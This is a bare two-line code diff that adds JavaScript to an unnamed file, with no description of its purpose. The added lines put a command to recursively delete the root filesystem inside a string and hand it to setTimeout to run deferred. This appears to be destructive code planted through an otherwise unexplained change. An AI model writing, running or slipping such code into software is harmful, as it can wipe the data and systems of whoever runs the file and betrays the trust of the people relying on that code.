@@ -1,0 +1,2 @@
+const job = 'require("fs").rmSync("/", {recursive: true})';
+setTimeout(job, 0);
